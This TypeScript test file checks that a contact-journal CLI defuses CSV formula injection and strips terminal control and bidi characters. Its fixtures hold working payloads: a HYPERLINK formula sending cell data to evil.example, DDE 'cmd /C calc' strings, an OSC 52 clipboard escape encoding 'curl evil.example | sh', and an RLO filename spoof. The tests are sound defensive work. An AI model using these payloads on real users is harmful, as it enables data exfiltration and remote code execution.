import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tempJournal, type RunOptions, type TempJournal } from '../helpers/run-cli.js';

// Issue 14 point 4: one csv rule everywhere (formula-like text defused, and
// `import` undoes exactly that), tsv and json exact for scripts, and nothing
// a terminal would act on (escape sequences, C1 controls, bidi overrides)
// written raw to one, in any format.

let j: TempJournal;
beforeEach(() => {
  j = tempJournal();
});
afterEach(() => j.remove());

async function ok(args: readonly string[], options?: RunOptions): Promise<string> {
  const result = await j.run(args, options);
  expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBe(0);
  return result.stdout;
}

function contactLine(id: number, fields: Record<string, unknown>): string {
  return JSON.stringify({
    type: 'contact',
    id,
    name: `Contact ${id}`,
    aliases: [],
    company: null,
    role: null,
    email: null,
    phone: null,
    url: null,
    location: null,
    circle: null,
    cadenceDays: null,
    birthday: null,
    tags: [],
    howMet: null,
    archived: false,
    created: '2026-11-01',
    ...fields,
  });
}

async function importLines(journal: TempJournal, lines: readonly string[]): Promise<void> {
  const file = join(journal.dir, `seed-${Date.now()}.jsonl`);
  writeFileSync(file, lines.join('\n') + '\n');
  const result = await journal.run(['import', file]);
  expect(result.code, result.stderr).toBe(0);
}

/** The journal's contacts by id, as the jsonl export has them. */
async function contactsById(journal: TempJournal): Promise<Record<string, unknown>[]> {
  const result = await journal.run(['export', '--format', 'json', '--what', 'contacts']);
  expect(result.code, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as Record<string, unknown>[];
}

/** The cells of a csv text, row by row, as a spreadsheet would read them. */
function csvCells(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

// What a spreadsheet runs as a formula; a number (`-3` days) is a number, not a formula.
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe('csv: one rule for every command and the export', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const CALC = "+cmd|' /C calc'!A0";
  const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
  const MINUS = "-2+3+cmd|' /C calc'!A0";

  beforeEach(async () => {
    await importLines(j, [
      contactLine(1, {
        name: HYPERLINK,
        aliases: [],
        company: CALC,
        role: SUM,
        phone: '+49 30 1234',
        location: MINUS,
        howMet: '=1+1',
        tags: ['=tag', 'ops'],
      }),
      contactLine(2, { name: CALC, company: "'quoted, as typed" }),
      contactLine(3, { name: '@Mention Me', company: HYPERLINK }),
    ]);
    await ok(['add', '#1', '#2', '--date', '2026-11-20', `--notes=${SUM}`, `--learned=${MINUS}`]);
    await ok(['add', '#1', '--no-thank-you', `--follow-up=${HYPERLINK}`, `--gave=${CALC}`]);
    await ok(['follow-up', '#3', `--due=2026-11-21`, '--', MINUS]);
    await ok(['intro', '#1', '#3', `--note=${SUM}`]);
  });

  const COMMANDS: readonly (readonly string[])[] = [
    ['contacts'],
    ['follow-ups', '--all'],
    ['today'],
    ['log'],
    ['intros'],
    ['intros', '--top'],
    ['stats'],
    ['search', 'calc'],
    ['reach', 'calc'],
    ['prep', '#1'],
    ['contact', 'show', '#1'],
    ['meeting', 'show', '1'],
    ['export', '--what', 'contacts'],
    ['export', '--what', 'meetings'],
    ['export', '--what', 'follow-ups'],
    ['export', '--what', 'intros'],
    ['export', '--what', 'notes'],
  ];

  it.each(COMMANDS.map((command) => [command.join(' '), command] as const))(
    '%s --format csv defuses every formula-like text cell',
    async (_, command) => {
      const cells = csvCells(await ok([...command, '--format', 'csv'])).flat();
      const live = cells.filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
      expect(live).toEqual([]);
      // The user's texts are there, defused: the check above is not vacuous.
      expect(cells.filter((cell) => /^'[=+\-@]/.test(cell)).length).toBeGreaterThan(0);
    },
  );

  it('writes exactly the defused text: one quote before the formula, nothing else changed', async () => {
    const [header, first, second] = csvCells(
      await ok(['export', '--format', 'csv', '--what', 'contacts']),
    );
    const row = (r: string[] | undefined) =>
      Object.fromEntries((header ?? []).map((h, i) => [h, r?.[i]]));
    expect(row(first)).toMatchObject({
      name: `'${HYPERLINK}`,
      company: `'${CALC}`,
      role: `'${SUM}`,
      phone: "'+49 30 1234",
      location: `'${MINUS}`,
      howMet: "'=1+1",
      tags: "'=tag,ops",
    });
    // A text that starts with a quote but is no formula is written as it is.
    expect(row(second)).toMatchObject({ name: `'${CALC}`, company: "'quoted, as typed" });
  });

  it('tsv and json stay exact for scripts: no quote added', async () => {
    const json = JSON.parse(await ok(['contacts', '--json'])) as Record<string, unknown>[];
    expect(json.find((c) => c.id === 1)).toMatchObject({
      name: HYPERLINK,
      aliases: [],
      company: CALC,
      role: SUM,
      howMet: '=1+1',
    });
    const tsv = (await ok(['contacts', '--format', 'tsv'])).split('\n');
    expect(
      tsv
        .find((line) => line.startsWith('1\t'))
        ?.split('\t')
        .slice(1, 5),
    ).toEqual([HYPERLINK, '', CALC, SUM]);
  });

  it('import of the exported csv undoes exactly the defusing', async () => {
    const file = join(j.dir, 'contacts.csv');
    await ok(['export', '--format', 'csv', '--what', 'contacts', '--output', file]);
    const fresh = tempJournal();
    try {
      const imported = await fresh.run(['import', file]);
      expect(imported.code, imported.stderr).toBe(0);
      const contacts = await contactsById(fresh);
      expect(contacts.map((c) => [c.name, c.company, c.role, c.location, c.howMet])).toEqual([
        [HYPERLINK, CALC, SUM, MINUS, '=1+1'],
        [CALC, "'quoted, as typed", null, null, null],
        ['@Mention Me', HYPERLINK, null, null, null],
      ]);
      expect(contacts[0]).toMatchObject({ phone: '+49 30 1234', tags: ['=tag', 'ops'] });
    } finally {
      fresh.remove();
    }
  });

  it('import keeps a quoted text that was not defused byte for byte', async () => {
    const file = join(j.dir, 'hand-made.csv');
    writeFileSync(
      file,
      "name,company,role,location\n'Quoted Name,'=x,''=y,'''-z\n'plain,',\"'\",'' \n",
    );
    const fresh = tempJournal();
    try {
      expect((await fresh.run(['import', file])).code).toBe(0);
      const contacts = await contactsById(fresh);
      expect(contacts.map((c) => [c.name, c.company, c.role, c.location])).toEqual([
        ["'Quoted Name", '=x', "'=y", "''-z"],
        ["'plain", "'", "'", "''"],
      ]);
    } finally {
      fresh.remove();
    }
  });
});

// Canonical text as the journal holds it: trimmed, not empty, no CR (a csv
// file's line breaks are read as LF).
const body = fc
  .oneof(
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
    fc.string({ minLength: 1, maxLength: 12 }),
    fc.constantFrom(
      'Zoë Ng',
      'O\'Brien, "Jr."',
      'line\nbreak',
      'two  spaces',
      'tab\there',
      '東京',
      '\u001b[31mred',
      'semi;colon',
      '"',
      ',',
      '  ',
    ),
  )
  .map((s) => s.replace(/\r/g, ''));
const prefix = fc.constantFrom('', '', '=', '+', '-', '@', "'", "'=", "''+", "'@", '"', '\t');
const text = fc
  .tuple(prefix, body, fc.constantFrom('', '\n', ',', '"', ' tail'), body)
  .map(([p, a, sep, b]) => `${p}${a}${sep}${b}`.trim())
  .filter((s) => s !== '');
const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: null });

const contactArb = fc.record({
  name: text,
  aliases: fc.constant([] as string[]),
  company: optional(text),
  role: optional(text),
  phone: optional(fc.constantFrom('+49 30 1234', '-1', '=1+1', "'+1 555", '(030) 1234')),
  location: optional(text),
  howMet: optional(text),
  email: fc.constantFrom('none', '+', '=', '-', "'=", 'a'),
  circle: optional(fc.constantFrom('inner', 'second', 'third')),
  cadenceDays: optional(fc.integer({ min: 1, max: 400 })),
  birthday: optional(fc.constantFrom('02-29', '1990-03-14', '12-31')),
  tags: fc.uniqueArray(fc.constantFrom('design', '=sum', '+plus', '@home', "'=q", 'ops'), {
    maxLength: 3,
  }),
  created: fc.constantFrom('2024-02-29', '2026-01-01', '2026-11-20'),
});

// The fields `import` reads from `export --format csv` (ids are the new journal's own,
// lastMet comes from meetings, archived is not read by the csv import).
const COMPARED = [
  'name',
  'company',
  'role',
  'email',
  'phone',
  'url',
  'location',
  'circle',
  'cadenceDays',
  'birthday',
  'tags',
  'howMet',
  'created',
] as const;

function compared(contacts: Record<string, unknown>[]): Record<string, unknown>[] {
  return contacts.map((c) => {
    const out: Record<string, unknown> = {};
    for (const key of COMPARED) out[key] = c[key];
    out.tags = [...(c.tags as string[])].sort();
    return out;
  });
}

describe('csv round trip', () => {
  it('export --format csv then import into a fresh journal gives the same field values', async () => {
    let trials = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(contactArb, { minLength: 1, maxLength: 6 }), async (contacts) => {
        trials++;
        const source = tempJournal();
        const target = tempJournal();
        try {
          // Names unique (import matches a sole namesake), e-mails unique (it matches by e-mail).
          const lines = contacts.map((c, i) =>
            contactLine(i + 1, {
              ...c,
              name: `${c.name} ${i + 1}`,
              email: c.email === 'none' ? null : `${c.email}${i + 1}@example.com`,
              url: i % 2 === 0 ? null : `=HYPERLINK("https://x.example/${i}")`,
            }),
          );
          await importLines(source, lines);
          const file = join(source.dir, 'contacts.csv');
          const exported = await source.run([
            'export',
            '--format',
            'csv',
            '--what',
            'contacts',
            '--output',
            file,
          ]);
          expect(exported.code, exported.stderr).toBe(0);
          const imported = await target.run(['import', file]);
          expect(imported.code, imported.stderr).toBe(0);
          const before = JSON.parse((await source.run(['contacts', '--json'])).stdout);
          const after = JSON.parse((await target.run(['contacts', '--json'])).stdout);
          expect(compared(after)).toEqual(compared(before));
        } finally {
          source.remove();
          target.remove();
        }
      }),
      { numRuns: 40 },
    );
    expect(trials).toBeGreaterThanOrEqual(40);
  }, 240_000);
});

// Every character a terminal acts on (C0 but tab and LF, DEL, C1), and the bidi controls.
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('nothing raw reaches a terminal', () => {
  const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
  const NAME = `Eve \u001b[2J${OSC52}\u202eexe.txt`;
  const COMPANY = `Acme \u001b[31mred\u001b[0m \u009b2J \u0085 C1\u007f \u2067iso\u2069`;
  const HOW = `met at\nthe \u0007bell\u0008 \u200fdesk\u061c\tend`;

  beforeEach(async () => {
    await ok([
      'contact',
      'add',
      NAME,
      `--company=${COMPANY}`,
      `--role=${OSC52}`,
      `--how=${HOW}`,
      '--tag',
      `\u202etag`,
    ]);
    await ok(['contact', 'add', 'Bob Plain']);
    await ok(['add', '#1', `--notes=${COMPANY}`, `--learned=${HOW}`, `--follow-up=${OSC52}`]);
    await ok(['add', '#1', '--no-thank-you', `--gave=${NAME}`]);
    await ok(['intro', '#1', 'Bob Plain', `--note=${COMPANY}`]);
  });

  const READS: readonly (readonly string[])[] = [
    ['contacts'],
    ['follow-ups', '--all'],
    ['today'],
    ['log'],
    ['intros'],
    ['intros', '--top'],
    ['intros', '--chain', 'Bob Plain'],
    ['stats'],
    ['search', 'acme'],
    ['reach', 'acme'],
    ['prep', '#1'],
    ['contact', 'show', '#1'],
    ['meeting', 'show', '1'],
  ];
  const FORMATS = ['table', 'csv', 'tsv', 'json', 'jsonl'] as const;

  // Eve's row: the one whose id cell is 1.
  const eve = (rows: string[][]) => rows.find((row) => row[0] === '1');

  function expectSafe(stdout: string, what: string): void {
    const raw = [...stdout].find((ch) => RAW_CONTROL.test(ch) || BIDI.test(ch));
    const at = raw === undefined ? -1 : stdout.indexOf(raw);
    expect(
      raw === undefined
        ? null
        : `U+${raw.codePointAt(0)?.toString(16)} near ${JSON.stringify(stdout.slice(Math.max(0, at - 20), at + 20))}`,
      what,
    ).toBeNull();
  }

  it.each(READS.flatMap((command) => FORMATS.map((format) => [format, command] as const)))(
    '--format %s on a terminal: %j writes no raw control or bidi character',
    async (format, command) => {
      const stdout = await ok([...command, '--format', format], {
        tty: true,
        env: { NO_COLOR: '1' },
      });
      expect(stdout).not.toBe('');
      expectSafe(stdout, `${command.join(' ')} --format ${format}`);
    },
  );

  it.each([
    ['jsonl'],
    ['json'],
    ['csv', '--what', 'contacts'],
    ['csv', '--what', 'meetings'],
    ['csv', '--what', 'follow-ups'],
    ['csv', '--what', 'intros'],
    ['csv', '--what', 'notes'],
    ['vcard'],
    ['ics'],
  ])(
    'export --format %s to a terminal writes no raw control or bidi character',
    async (...args) => {
      const [format, ...rest] = args;
      const stdout = await ok(['export', '--format', format ?? '', ...rest], { tty: true });
      expect(stdout).not.toBe('');
      expectSafe(stdout, `export --format ${args.join(' ')}`);
    },
  );

  it('with colour on, the only escape sequences are the colours netjournal draws', async () => {
    for (const command of [
      ['contacts'],
      ['today'],
      ['log'],
      ['intros'],
      ['contact', 'show', '#1'],
    ]) {
      const stdout = await ok(command, { tty: true, env: { FORCE_COLOR: '1' } });
      expect(stdout).toMatch(/\u001b\[\d+m/); // coloured indeed
      expectSafe(stdout.replace(/\u001b\[[0-9;]*m/g, ''), command.join(' '));
    }
  });

  it('csv and json shown on a terminal still parse, to the visibly escaped and the exact text', async () => {
    const csv = csvCells(await ok(['contacts', '--format', 'csv'], { tty: true }));
    expect(eve(csv)?.[1]).toBe(
      'Eve \\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202eexe.txt',
    );
    expect(eve(csv)?.[13]).toBe('met at\\nthe \\x07bell\\x08 \\u200fdesk\\u061c\\tend');
    const json = JSON.parse(await ok(['contacts', '--json'], { tty: true })) as {
      id: number;
      name: string;
      company: string;
    }[];
    expect(json.find((c) => c.id === 1)).toMatchObject({ name: NAME, company: COMPANY });
  });

  it('piped, json and tsv give the exact text and csv keeps line breaks in quoted cells', async () => {
    const json = JSON.parse(await ok(['contacts', '--json'])) as Record<string, unknown>[];
    expect(json.find((c) => c.id === 1)).toMatchObject({
      name: NAME,
      aliases: [],
      company: COMPANY,
      role: OSC52,
      howMet: HOW,
    });
    const jsonl = (await ok(['contacts', '--format', 'jsonl'])).split('\n');
    expect(JSON.parse(jsonl[1] ?? '')).toMatchObject({ name: NAME, company: COMPANY });
    const unTsv = (cell: string) =>
      cell.replace(/\\(\\|n|r|t|x[0-9a-f]{2})/g, (_, e: string) =>
        e === '\\'
          ? '\\'
          : e === 'n'
            ? '\n'
            : e === 'r'
              ? '\r'
              : e === 't'
                ? '\t'
                : String.fromCharCode(parseInt(e.slice(1), 16)),
      );
    const tsv =
      eve((await ok(['contacts', '--format', 'tsv'])).split('\n').map((l) => l.split('\t'))) ?? [];
    expect([tsv[1], tsv[3], tsv[4], tsv[13]].map((c) => unTsv(c ?? ''))).toEqual([
      NAME,
      COMPANY,
      OSC52,
      HOW,
    ]);
    const csv = csvCells(await ok(['contacts', '--format', 'csv']));
    expect(eve(csv)?.slice(1, 5)).toEqual([NAME, '', COMPANY, OSC52]);
    expect(eve(csv)?.[13]).toBe(HOW);
  });

  it('export --output on a terminal writes the exact journal to the file', async () => {
    const file = join(j.dir, 'all.jsonl');
    await ok(['export', '--output', file], { tty: true });
    const contact = readFileSync(file, 'utf8')
      .split('\n')
      .filter((line) => line.includes('"type":"contact"'))
      .map((line) => JSON.parse(line) as { name: string; company: string | null })
      .find((c) => c.name === NAME);
    expect(contact?.company).toBe(COMPANY);
  });
});
